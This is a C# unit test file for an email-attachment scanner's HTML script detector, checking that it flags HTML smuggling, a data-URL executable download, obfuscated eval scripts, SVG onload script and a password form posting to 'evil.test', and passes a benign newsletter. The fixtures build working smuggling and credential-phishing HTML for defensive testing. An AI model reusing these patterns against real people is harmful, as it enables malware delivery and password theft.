using System.Text;
using Sekisho.Inspection.Detection.Carriers;
using Sekisho.SampleMaker;

namespace Sekisho.Inspection.Tests.Detection.Carriers;

public class PageScriptTests
{
    [Fact]
    public void Smuggling_IsFoundAndTheFileOpened()
    {
        var data = Convert.ToBase64String(ZipWriter.Plain(("a.exe", Samples.Program()))).Insert(40, "\" + \"");
        using var message = Letters.OpenDocument("a.html", Encoding.ASCII.GetBytes($"<html><script>var d=\"{data}\";var b=new Blob([atob(d)]);a.href=URL.createObjectURL(b);a.click()</script></html>"));

        Assert.Contains("HTML_SMUGGLING", Letters.Ask(new PageScript(), message).Select(f => f.Kind.Code));
        Assert.Contains(message.Parts, p => p.Name == "a.exe");
    }

    [Fact]
    public void SavedDataUrl_IsSmuggling() => Assert.Equal(["HTML_SMUGGLING"], Letters.Codes(new PageScript(), "a.html",
        Encoding.ASCII.GetBytes($"<html><a download='x.exe' href='data:application/octet-stream;base64,{Convert.ToBase64String(Samples.Program())}'>open</a></html>")));

    [Fact]
    public void PasswordForm_WeighsMoreInAnAttachment()
    {
        var page = "<html><form action=\"https://evil.test/p\"><input type=password></form></html>"u8.ToArray();

        var finding = Assert.Single(Letters.Ask(new PageScript(), "login.htm", page));
        Assert.Equal(("HTML_PASSWORD_FORM", "sent to https://evil.test/p"), (finding.Kind.Code, finding.Evidence));
        using var body = Letters.Text("From: a@b.test\nContent-Type: text/html\n\n" + Encoding.ASCII.GetString(page));
        Assert.Equal(["HTML_BODY_PASSWORD_FORM"], Letters.Ask(new PageScript(), body).Select(f => f.Kind.Code));
    }

    [Fact]
    public void UnreadableScript_IsFound() => Assert.Contains("HTML_OBFUSCATED_SCRIPT", Letters.Codes(new PageScript(), "a.html",
        Encoding.ASCII.GetBytes("<html><script>eval(unescape('" + string.Concat(Enumerable.Repeat("%61%6c%65", 200)) + "'))</script></html>")));

    [Fact]
    public void PictureWithScript_IsFound() => Assert.Equal(["SVG_SCRIPT"], Letters.Codes(new PageScript(), "a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"go()\"><path/></svg>"u8.ToArray()));

    [Fact]
    public void Newsletter_IsNot() => Assert.Empty(Letters.Codes(new PageScript(), "a.html",
        Encoding.UTF8.GetBytes("<html><head><style>a{}</style><script type=\"application/ld+json\">{\"@type\":\"Event\"}</script></head><body><div style=\"display:none\">今週のお知らせ"
            + string.Concat(Enumerable.Repeat("&zwnj;&nbsp;", 300)) + "</div><a href=\"https://news.test/1\">続きを読む</a><img src=\"data:image/png;base64,iVBORw0KGgo=\"></body></html>")));
}
